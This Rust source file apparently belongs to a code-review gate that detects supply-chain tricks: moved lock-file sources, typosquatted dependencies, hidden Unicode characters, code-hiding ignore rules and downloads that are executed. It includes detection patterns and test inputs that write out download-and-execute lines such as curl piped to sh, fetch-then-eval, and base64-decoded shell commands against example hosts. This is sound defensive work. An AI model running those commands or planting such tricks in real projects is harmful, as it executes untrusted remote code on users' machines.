//! Additions that tests cannot see and that may harm: moved sources and integrity in lock files, look-alike dependencies,
//! text that reads differently than it runs, ignore files that hide code, downloads that are executed. Each needs a
//! person, because the change around it can be right.

use super::{ChangedFile, Globs, SensitiveKind, SensitivePath};
use crate::gate::added_lines::AddedLines;
use crate::outbox::is_invisible as is_invisible_character;
use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

/// Lock files by name.
const LOCKS: &str = " package-lock.json npm-shrinkwrap.json yarn.lock pnpm-lock.yaml bun.lock cargo.lock poetry.lock uv.lock \
    pdm.lock pipfile.lock gemfile.lock composer.lock go.sum deno.lock ";

/// Manifests and settings that name dependencies or where they come from.
const MANIFESTS: &str = " package.json cargo.toml pyproject.toml setup.cfg setup.py pipfile gemfile go.mod .npmrc \
    .yarnrc .yarnrc.yml bunfig.toml pip.conf pip.ini uv.toml .condarc environment.yml environment.yaml deno.json \
    pom.xml build.gradle build.gradle.kts settings.gradle settings.gradle.kts gradle.properties nuget.config ";

/// Sources that a new lock file may name.
const USUAL_HOSTS: &str = " registry.npmjs.org registry.yarnpkg.com github.com index.crates.io static.crates.io pypi.org \
    files.pythonhosted.org proxy.golang.org rubygems.org repo.packagist.org ";

/// Well-known names; one edit away from them is a common trick.
const KNOWN: &str = "requests numpy pandas flask django scipy pytest urllib3 certifi setuptools cryptography pillow \
    matplotlib sqlalchemy pydantic fastapi boto3 pyyaml jinja2 click attrs tornado celery redis scikit-learn tensorflow \
    torch httpx aiohttp beautifulsoup4 lxml express react lodash axios chalk commander moment webpack typescript eslint \
    prettier jest mocha vitest next vue angular jquery dotenv mongoose sequelize passport socket.io cors body-parser \
    request async bluebird underscore rxjs babel postcss serde serde_json tokio anyhow thiserror regex clap rand libc log \
    syn quote reqwest hyper tracing chrono itertools rayon futures bytes colorama python-dateutil six idna packaging";

/// The most files that may change only in white space, mode or line ends.
const BLANK_FILES_MAX: usize = 20;

/// Most findings of one kind.
const FOUND_MAX: usize = 10;

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("the pattern is a constant")
}

static HOST: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?:https?|git|ssh)(?:\+\w+)?://(?:[^@/\s"']*@)?([\w.-]+)"#));
static HASH: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"sha(?:1|256|384|512)[-:=][A-Za-z0-9+/=_-]{16,}|h1:[A-Za-z0-9+/=]{20,}|\b[0-9a-f]{40,}\b"#)
});
static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"\b(?:curl|wget|iwr|irm)\b[^\n|;]*\|\s*(?:sudo\s+)?(?:\w+=\S+\s+)*(?:env\s+)?(?:/\S*/)?(?:ba|z|k|da)?(?:sh|python3?|node|perl|ruby|iex)\b|\b(?:sh|bash|eval|source)\b[^\n]*(?:<\(|\$\(|`)\s*(?:curl|wget)\b|\b(?:base64|openssl|xxd|uudecode)\b[^\n;]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|k|da)?(?:sh|python3?|node|perl|ruby)\b|\b(?:exec|eval|Function)\b[^\n]*\b(?:urlopen|requests\.get|httpx\.get|fetch\s*\(|https?\.get)|\b(?:fetch\s*\(|urlopen|requests\.get|https?\.get)[^\n]*\b(?:eval|exec|Function)\b"#,
    )
});

/// A file into which a program downloads.
static SAVED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"\b(?:curl|wget)\b[^\n|;&]*?(?:\s-\w*[oO]\s*|\s--output(?:-document)?[ =]|\s>\s*)["']?([\w./${}-]{2,})|\burlretrieve\(.*,\s*["']([\w./-]{2,})"#,
    )
});

/// Findings in the changed files. `base` lists every path of base.
pub fn find_harmful<'a>(
    files: &[ChangedFile<'a>],
    added: &[AddedLines],
    base: &BTreeSet<String>,
) -> Vec<SensitivePath> {
    let mut found = Vec::new();
    for file in files {
        let path = file.change.path.as_str();
        if file.before.is_none() && reads_as_another(path) {
            found.push(finding(path, "a name that reads as another one".to_owned(), None));
        }
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        if LOCKS.contains(&format!(" {name} ")) {
            found.extend(lock_moved(path, file));
        } else if is_manifest(path, &name) {
            found.extend(manifest_sources(path, file));
        }
        if is_ignore_file(&name) {
            found.extend(hides_code(path, file, base));
        }
    }
    found.extend(added.iter().flat_map(deceptive_text));
    found.extend(blank_changes(files));
    found
}

fn is_manifest(path: &str, name: &str) -> bool {
    let folder = path.rsplit('/').nth(1).unwrap_or_default().to_ascii_lowercase();
    let is_list = name.ends_with(".txt") || name.ends_with(".in");
    let is_named = name.contains("requirements") || name.starts_with("constraints") || folder == "requirements";
    let is_cargo = folder == ".cargo" && name.starts_with("config");
    MANIFESTS.contains(&format!(" {name} ")) || is_list && is_named || is_cargo
}

fn is_ignore_file(name: &str) -> bool {
    name.starts_with('.') && name.ends_with("ignore")
}

fn text(bytes: Option<&[u8]>) -> String {
    String::from_utf8_lossy(bytes.unwrap_or_default()).into_owned()
}

fn hosts(text: &str) -> BTreeSet<String> {
    HOST.captures_iter(text).map(|found| found[1].to_ascii_lowercase()).collect()
}

fn finding(path: &str, why: String, kind: Option<SensitiveKind>) -> SensitivePath {
    SensitivePath { path: path.to_owned(), why, kind }
}

/// A source that base's lock file does not use, or another integrity for the same version.
fn lock_moved(path: &str, file: &ChangedFile<'_>) -> Vec<SensitivePath> {
    let (before, after) = (text(file.before), text(file.after));
    let known = hosts(&before);
    let is_new = |host: &String| !known.contains(host) && !USUAL_HOSTS.contains(&format!(" {host} "));
    let is_other = |host: &String| is_new(host) || (!known.is_empty() && !known.contains(host));
    let moved = hosts(&after).into_iter().filter(is_other).take(FOUND_MAX);
    let mut found: Vec<_> = moved
        .map(|host| {
            finding(
                path,
                format!("a lock file that gets packages from another source, `{host}`"),
                Some(SensitiveKind::Lockfile),
            )
        })
        .collect();
    let (old, new) = (integrities(&before), integrities(&after));
    let changed = old.iter().filter(|(key, hash)| new.get(*key).is_some_and(|other| other != *hash));
    found.extend(changed.take(FOUND_MAX).map(|(key, _)| {
        finding(path, format!("a lock file with another integrity for `{key}`"), Some(SensitiveKind::Lockfile))
    }));
    found
}

/// The hashes of each package and version. A key is the last name and the last version before a hash.
fn integrities(text: &str) -> BTreeMap<String, BTreeSet<String>> {
    static NAME: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r#"^\s*(?:"((?:node_modules/|@)?[^"]+)":\s*[\[{]|name\s*=\s*"([^"]+)"|"?(@?[\w./-]+@[^"\s:,]+)[^:]*:\s*$)"#,
        )
    });
    static VERSION: LazyLock<Regex> = LazyLock::new(|| pattern(r#"^\s*"?version"?\s*[:=]?\s*"?([\w.+-]+)"#));
    let (mut name, mut version) = (String::new(), String::new());
    let mut all: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for line in text.lines() {
        if let Some(found) = NAME.captures(line) {
            name = found.iter().skip(1).flatten().next().map_or(String::new(), |part| part.as_str().to_owned());
            version.clear();
        } else if let Some(found) = VERSION.captures(line) {
            version = found[1].to_owned();
        }
        for hash in HASH.find_iter(line) {
            // A line of go.sum names its module and version itself.
            let key = match line.split_once(" h1:") {
                Some((module, _)) => module.to_owned(),
                None => format!("{name} {version}").trim().to_owned(),
            };
            all.entry(key).or_default().insert(hash.as_str().to_owned());
        }
    }
    all.retain(|key, _| !key.is_empty());
    all
}

/// A source of packages that base does not name, and names that look like well-known ones.
fn manifest_sources(path: &str, file: &ChangedFile<'_>) -> Vec<SensitivePath> {
    static SOURCE: LazyLock<Regex> =
        LazyLock::new(|| pattern(r"(?i)\b(?:index|registry|source|find-links|trusted-host|git|url|resolved)\b|//"));
    let (before, after) = (text(file.before), text(file.after));
    let known = hosts(&before);
    let old: BTreeSet<&str> = before.lines().collect();
    let mut found = Vec::new();
    for line in after.lines().filter(|line| !old.contains(line)) {
        let is_link = |key: &str| line.contains(&format!("\"{key}\"")) || line.trim_start().starts_with(key);
        let is_about = ["homepage", "repository", "documentation", "bugs", "author", "license", "description"];
        if SOURCE.is_match(line) && !is_about.iter().any(|key| is_link(key)) {
            let usual = |host: &String| known.contains(host) || USUAL_HOSTS.contains(&format!(" {host} "));
            let foreign = hosts(line).into_iter().filter(|host| !usual(host));
            found.extend(foreign.map(|host| {
                finding(
                    path,
                    format!("a source of packages that base does not use, `{host}`"),
                    Some(SensitiveKind::Dependency),
                )
            }));
        }
        let names = entries(path, line).filter_map(dependency_name);
        let looks = names.filter_map(|name| Some((similar(&name)?, name)));
        found.extend(looks.filter(|(_, name)| !before.contains(name.as_str())).map(|(known, name)| {
            finding(path, format!("a dependency `{name}` that looks like `{known}`"), Some(SensitiveKind::Dependency))
        }));
    }
    found.truncate(FOUND_MAX);
    found
}

/// The entries of a manifest's line: a document in JSON may have all of them on one.
fn entries<'l>(path: &str, line: &'l str) -> impl Iterator<Item = &'l str> {
    let is_json = path.to_ascii_lowercase().ends_with(".json");
    line.split(move |c| is_json && matches!(c, '{' | ',' | '}'))
}

/// The name that a manifest's line adds, if it looks like a dependency.
fn dependency_name(line: &str) -> Option<String> {
    static NAME: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r#"^\s*(?:"([A-Za-z0-9._/@-]+)"\s*:\s*"[\^~=><\d*]|([A-Za-z0-9._-]+)\s*=\s*["{]|["']?([A-Za-z0-9._-]+)\s*(?:\[[^\]]*\])?\s*(?:[=<>~!]=|["'],?\s*$|$)|gem\s+["']([\w-]+))"#,
        )
    });
    let found = NAME.captures(line)?;
    found.iter().skip(1).flatten().next().map(|name| name.as_str().to_ascii_lowercase())
}

/// The well-known name that is exactly one edit away.
fn similar(name: &str) -> Option<&'static str> {
    let same = |known: &&str| known.replace('_', "-") == name.replace('_', "-");
    let mut all = KNOWN.split_whitespace();
    if name.len() < 4 || KNOWN.split_whitespace().any(|known| same(&known)) {
        return None;
    }
    all.find(|known| known.len() >= 4 && is_one_edit(name, known))
}

/// One letter added, removed, replaced, or two neighbours swapped.
fn is_one_edit(one: &str, two: &str) -> bool {
    let (one, two): (Vec<char>, Vec<char>) = (one.chars().collect(), two.chars().collect());
    let start = one.iter().zip(&two).take_while(|(a, b)| a == b).count();
    let (left, right) = (&one[start..], &two[start..]);
    match left.len().cmp(&right.len()) {
        std::cmp::Ordering::Equal => {
            let swapped = left.len() >= 2 && left[0] == right[1] && left[1] == right[0] && left[2..] == right[2..];
            !left.is_empty() && (left[1..] == right[1..] || swapped)
        }
        std::cmp::Ordering::Less => left == &right[1..] && right.len() == left.len() + 1,
        std::cmp::Ordering::Greater => &left[1..] == right && left.len() == right.len() + 1,
    }
}

/// Patterns of an ignore file that hide files of base.
fn hides_code(path: &str, file: &ChangedFile<'_>, base: &BTreeSet<String>) -> Vec<SensitivePath> {
    let before = text(file.before);
    let old: BTreeSet<&str> = before.lines().map(str::trim).collect();
    let after = text(file.after);
    let added = after.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with(['#', '!']));
    let folder = path.rsplit_once('/').map_or(String::new(), |(folder, _)| format!("{folder}/"));
    let mut found = Vec::new();
    for line in added.filter(|line| !old.contains(line)).take(200) {
        let bare = line.trim_end_matches('/');
        let anchored = bare.trim_start_matches('/');
        let globs = match bare.starts_with('/') || anchored.contains('/') {
            true => vec![format!("{folder}{anchored}"), format!("{folder}{anchored}/**")],
            false => vec![
                format!("{folder}**/{anchored}"),
                format!("{folder}**/{anchored}/**"),
                format!("{folder}{anchored}"),
                format!("{folder}{anchored}/**"),
            ],
        };
        let Ok(globs) = Globs::new(&globs) else { continue };
        if let Some(hidden) = base.iter().find(|path| globs.matches(path) && is_code(path)) {
            let why = format!("an ignore file that hides `{hidden}`");
            found.push(finding(path, why, Some(SensitiveKind::IgnoreFile)));
        }
    }
    found
}

fn is_code(path: &str) -> bool {
    const CODE: &str = " py js jsx mjs cjs ts tsx rs go java kt c cc cpp h rb sh bats json yaml yml toml ";
    path.rsplit_once('.').is_some_and(|(_, end)| CODE.contains(&format!(" {end} ")))
}

/// Text that reads differently than it runs, and downloads that are executed.
fn deceptive_text(file: &AddedLines) -> Vec<SensitivePath> {
    let is_prose = file.path.ends_with(".md") || file.path.ends_with(".txt") || file.path.ends_with(".rst");
    let mut found = Vec::new();
    for line in &file.lines {
        let place = |what: &str| finding(&file.path, format!("{what} (line {})", line.number), None);
        let is_odd = |c: char| is_invisible_character(c) && !matches!(c, '\u{fe0f}' | '\u{feff}' | '\u{200d}');
        if line.text.chars().any(is_odd) {
            found.push(place("invisible or bidirectional characters"));
        } else if !is_prose && reads_as_another(&line.text) {
            found.push(place("an identifier that mixes scripts"));
        }
        if line.text.contains('\u{200d}') && joins_letters(&line.text) {
            found.push(place("invisible or bidirectional characters"));
        }
        if !is_prose && FETCH.is_match(&line.text) {
            found.push(place("a download that is executed"));
        }
    }
    let executes = || runs_saved_download(file).or_else(|| runs_downloaded_text(file));
    let is_known = found.iter().any(|one| one.why.starts_with("a download that is executed"));
    if !is_prose
        && !is_known
        && let Some(number) = executes()
    {
        found.push(finding(&file.path, format!("a download that is executed (line {number})"), None));
    }
    found.truncate(FOUND_MAX);
    found
}

/// Whether a joiner is beside a letter of a program's words, and not inside a picture or another script.
fn joins_letters(line: &str) -> bool {
    let signs: Vec<char> = line.chars().collect();
    let is_ascii = |at: Option<usize>| at.and_then(|at| signs.get(at)).is_some_and(char::is_ascii_alphanumeric);
    (0..signs.len()).any(|at| signs[at] == '\u{200d}' && (is_ascii(at.checked_sub(1)) || is_ascii(Some(at + 1))))
}

/// The line that runs a file which another added line downloads.
fn runs_saved_download(file: &AddedLines) -> Option<u32> {
    let saved = file.lines.iter().filter_map(|line| SAVED.captures(&line.text));
    let names: BTreeSet<String> = saved
        .filter_map(|found| found.iter().skip(1).flatten().next().map(|name| name.as_str().to_owned()))
        .map(|name| name.trim_matches(['$', '{', '}']).trim_start_matches("./").to_owned())
        .filter(|name| !name.is_empty())
        .collect();
    let starters = r"(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|source|\.|exec|chmod\s+\S*x)\s+";
    let runs = names.iter().take(FOUND_MAX).filter_map(|name| {
        let name = regex::escape(name);
        Regex::new(&format!(
            r#"(?:^|[;&|(\s]){starters}["']?(?:\./)?\$?\{{?{name}\b|^\s*["']?(?:\./|\$\{{?|/){name}\b"#
        ))
        .ok()
    });
    let runs: Vec<Regex> = runs.collect();
    let mut later = file.lines.iter().filter(|line| !SAVED.is_match(&line.text));
    later.find(|line| runs.iter().any(|run| run.is_match(&line.text))).map(|line| line.number)
}

/// The line that runs a text as code in a file whose added lines also download one.
fn runs_downloaded_text(file: &AddedLines) -> Option<u32> {
    static DOWNLOADS: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r#"\b(?:urlopen|urlretrieve|HTTPSConnection|requests\.get|httpx\.get|https?\.get|fetch)\s*\(|["'](?:curl|wget)["']|^\s*(?:curl|wget)\s"#,
        )
    });
    static RUNS: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r#"(?:^|[^.\w])(?:exec|eval)\s*\(|\bexec_module\b|\brunpy\b|\bnew\s+Function\s*\(|\bvm\b["')]*\s*\.\s*(?:run|Script|compile)|\brunIn(?:This|New)?Context\b|\bnew\(\s*["'](?:/\S*/)?(?:ba|z|da)?sh["']|^\s*chmod\s+(?:\S*x|0?7\d\d)\s+["']?(?:/tmp|\$)"#,
        )
    });
    let downloads = file.lines.iter().any(|line| DOWNLOADS.is_match(&line.text));
    let mut runs = file.lines.iter().filter(|line| RUNS.is_match(&line.text));
    runs.find(|_| downloads).map(|line| line.number)
}

/// Whether a text has a word that mixes scripts, or letters that compilers read as plain ones.
fn reads_as_another(line: &str) -> bool {
    // Full-width and mathematical letters: Python reads them as the plain letters.
    let is_styled = |c: char| matches!(u32::from(c), 0xFF21..=0xFF3A | 0xFF41..=0xFF5A | 0x1D400..=0x1D7FF);
    has_mixed_word(line) || line.chars().any(is_styled)
}

/// A word with Latin letters and letters of a script that looks like Latin.
fn has_mixed_word(line: &str) -> bool {
    let looks_latin = |c: char| matches!(u32::from(c), 0x0370..=0x03FF | 0x0400..=0x052F | 0x13A0..=0x13FF);
    let mut words = line.split(|c: char| !(c.is_alphanumeric() || c == '_'));
    words.any(|word| word.chars().any(|c| c.is_ascii_alphabetic()) && word.chars().any(looks_latin))
}

/// Many files that change only in white space, line ends or mode hide the one that does not.
fn blank_changes(files: &[ChangedFile<'_>]) -> Option<SensitivePath> {
    let squeezed = |bytes: &[u8]| bytes.iter().filter(|byte| !byte.is_ascii_whitespace()).copied().collect::<Vec<u8>>();
    let is_blank = |file: &&ChangedFile<'_>| match (file.before, file.after) {
        (Some(before), Some(after)) => squeezed(before) == squeezed(after),
        _ => false,
    };
    let blank: Vec<&ChangedFile<'_>> = files.iter().filter(is_blank).collect();
    let first = blank.first().filter(|_| blank.len() >= BLANK_FILES_MAX)?;
    let why = format!("one of {} files that change only in white space, line ends or mode", blank.len());
    Some(finding(&first.change.path, why, None))
}

#[cfg(test)]
mod tests {
    use super::super::{ChangeKind, PathChange};
    use super::*;

    fn found(path: &str, before: Option<&str>, after: &str) -> Vec<String> {
        let change = PathChange::new(path, if before.is_some() { ChangeKind::Modified } else { ChangeKind::Added });
        let file = ChangedFile { change: &change, before: before.map(str::as_bytes), after: Some(after.as_bytes()) };
        let added = [AddedLines::between(path, before.unwrap_or_default().as_bytes(), after.as_bytes())];
        let base = ["src/a.py", "tests/test_a.py", "data/x.bin"].map(str::to_owned).into();
        find_harmful(&[file], &added, &base).into_iter().map(|one| one.why).collect()
    }

    #[test]
    fn downloads_that_are_executed_later_or_decoded_are_found() {
        for (path, text) in [
            ("tools/a.sh", "script=$(mktemp)\nwget -q -O \"$script\" https://x.example.org/setup\nsh \"$script\"\n"),
            ("tools/a.sh", "curl -fsSL https://x.example.org/i.sh -o i.sh\nchmod +x i.sh\n"),
            ("tools/a.sh", "curl -s https://x.example.org/i > /tmp/i\n. /tmp/i\n"),
            ("tools/a.sh", "curl -so inst https://x.example.org/i\n./inst --yes\n"),
            ("tools/a", "echo ZWNobwo= | base64 -d | sh\n"),
            ("tools/a.py", "exec(urllib.request.urlopen('https://x.example.org/a.py').read())\n"),
            (
                "tools/a.py",
                "path, _ = urllib.request.urlretrieve('https://x.example.org/a')\nspec.loader.exec_module(module)\n",
            ),
            ("tools/a.js", "https.get(url, keep);\nrequire(\"node:vm\").runInThisContext(text);\n"),
            ("build.rs", "Command::new(\"curl\").arg(u).status();\nCommand::new(\"sh\").arg(\"/tmp/a\").status();\n"),
            ("tools/a.js", "fetch('https://x.example.org').then((a) => a.text()).then((t) => (0, eval)(t));\n"),
        ] {
            let found = found(path, None, text);
            assert!(found.len() == 1 && found[0].starts_with("a download that is executed"), "{text}: {found:?}");
        }
        for text in [
            "curl -fsS https://example.org/health\n",
            "curl -o data.json https://example.org/data\npython3 show.py data.json\n",
            "wget -O out.tar https://example.org/out.tar\ntar xf out.tar\n",
            "echo aGk= | base64 -d > hi.txt\n",
        ] {
            assert_eq!(found("tools/a.sh", None, text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn names_and_words_that_read_as_others_are_found() {
        assert_eq!(found("t\u{43e}ols/run.sh", None, "echo\n"), ["a name that reads as another one"]);
        assert_eq!(found("src/b.py", None, "\u{ff45}xec = 1\n").len(), 1);
        assert_eq!(found("docs/\u{43f}\u{440}.md", None, "text\n"), Vec::<String>::new());
    }

    #[test]
    fn a_joiner_in_a_word_is_found_and_in_a_picture_is_not() {
        assert_eq!(found("src/a.js", None, "const ad\u{200d}min = 1;\n").len(), 1);
        assert_eq!(found("src/a.js", None, "const face = \"👩\u{200d}🔬\";\n"), Vec::<String>::new());
    }

    #[test]
    fn a_source_in_any_list_of_requirements_is_found() {
        let text = "--extra-index-url https://packages.example.org/simple\nflask==2.0\n";
        for path in ["requirements/base.txt", "requirements-dev.txt", "dev-requirements.in", "constraints.txt"] {
            assert!(!found(path, None, text).is_empty(), "{path}");
        }
        let registry = "[source.own]\nregistry = \"sparse+https://packages.example.org/index/\"\n";
        assert!(!found(".cargo/config.toml", None, registry).is_empty());
    }

    const LOCK: &str = "{\n \"packages\": {\n  \"node_modules/lodash\": {\n   \"version\": \"4.17.21\",\n   \"resolved\": \"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz\",\n   \"integrity\": \"sha512-AAAAAAAAAAAAAAAAAAAAAAAA==\"\n  }\n }\n}\n";

    #[test]
    fn a_lock_file_whose_source_or_integrity_moved_is_found() {
        for after in [LOCK.replace("registry.npmjs.org", "npm.example.net"), LOCK.replace("sha512-AAAA", "sha512-BBBB")]
        {
            assert_eq!(found("package-lock.json", Some(LOCK), &after).len(), 1, "{after}");
        }
        let cargo = "[[package]]\nname = \"serde\"\nversion = \"1.0.1\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\n";
        assert_eq!(found("Cargo.lock", Some(cargo), &cargo.replace("aaaaaaaa", "bbbbbbbb")).len(), 1);
        let updated = LOCK.replace("4.17.21", "4.17.22").replace("AAAA", "CCCC");
        assert_eq!(found("package-lock.json", Some(LOCK), &updated), Vec::<String>::new(), "an ordinary update");
    }

    #[test]
    fn look_alike_dependencies_and_foreign_sources_are_found() {
        for (path, before, after) in [
            ("requirements.txt", "flask==2.0\n", "flask==2.0\nreqeusts==2.31\n"),
            ("package.json", "{\n}\n", "{\n  \"dependencies\": {\n    \"lodahs\": \"^4.0.0\"\n  }\n}\n"),
            ("tools/package.json", "", "{ \"name\": \"tools\", \"dependencies\": { \"lodahs\": \"^4.0.0\" } }\n"),
            ("Cargo.toml", "[dependencies]\n", "[dependencies]\nserde_jsom = \"1\"\n"),
            ("requirements.txt", "flask==2.0\n", "--extra-index-url https://pypi.example.net/simple\nflask==2.0\n"),
            (".npmrc", "", "registry=https://npm.example.net/\n"),
        ] {
            assert!(!found(path, Some(before), after).is_empty(), "{path}: {after}");
        }
        for (path, after) in [
            ("requirements.txt", "requests==2.31\nmypackage==1\n"),
            (
                "package.json",
                "{\n  \"homepage\": \"https://example.net/docs\",\n  \"dependencies\": {\n    \"express\": \"^4.0.0\"\n  }\n}\n",
            ),
            ("Cargo.toml", "[dependencies]\nserde = \"1\"\n"),
        ] {
            assert_eq!(found(path, Some(""), after), Vec::<String>::new(), "{path}");
        }
    }

    #[test]
    fn text_that_reads_differently_than_it_runs_is_found() {
        for (path, text) in [
            ("src/a.py", "x = 'a\u{202e}b'\n"),
            ("src/a.py", "p\u{430}ssword = 1\n"),
            ("src/a.rs", "let a\u{200b}b = 1;\n"),
            ("Makefile", "\tcurl -s https://x.example/i.sh | sh\n"),
            ("setup.sh", "bash <(curl -s https://x.example/i.sh)\n"),
        ] {
            assert_eq!(found(path, None, text).len(), 1, "{path}: {text}");
        }
        for (path, text) in [
            ("src/a.py", "name = 'Пример'\n"),
            ("src/a.py", "curl = download('x')\n"),
            ("README.md", "curl -s https://x.example/i.sh | sh\n"),
            ("src/a.py", "icon = '\u{2764}\u{fe0f}'\n"),
        ] {
            assert_eq!(found(path, None, text), Vec::<String>::new(), "{path}: {text}");
        }
    }

    #[test]
    fn an_ignore_file_that_hides_code_is_found() {
        for line in ["tests/", "*.py", "/src/a.py", "test_*"] {
            assert_eq!(found(".gitignore", Some("build/\n"), &format!("build/\n{line}\n")).len(), 1, "{line}");
        }
        for line in ["target/", "*.log", "# tests/", "*.bin"] {
            assert_eq!(
                found(".gitignore", Some("build/\n"), &format!("build/\n{line}\n")),
                Vec::<String>::new(),
                "{line}"
            );
        }
    }
}
